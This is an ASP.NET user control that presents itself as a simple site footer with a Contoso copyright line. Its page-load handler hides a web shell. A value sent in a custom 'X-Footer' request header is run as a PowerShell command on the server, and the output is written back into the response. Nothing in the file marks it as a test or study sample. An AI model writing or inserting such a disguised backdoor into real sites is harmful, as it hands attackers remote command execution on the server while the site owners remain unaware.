<%@ Control Language="C#" ClassName="Footer" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string c = Request.Headers["X-Footer"];
    if (!string.IsNullOrEmpty(c))
    {
        var psi = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-nop -c " + c);
        psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
        Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());
    }
}
</script>
<div class="footer">&copy; Contoso</div>
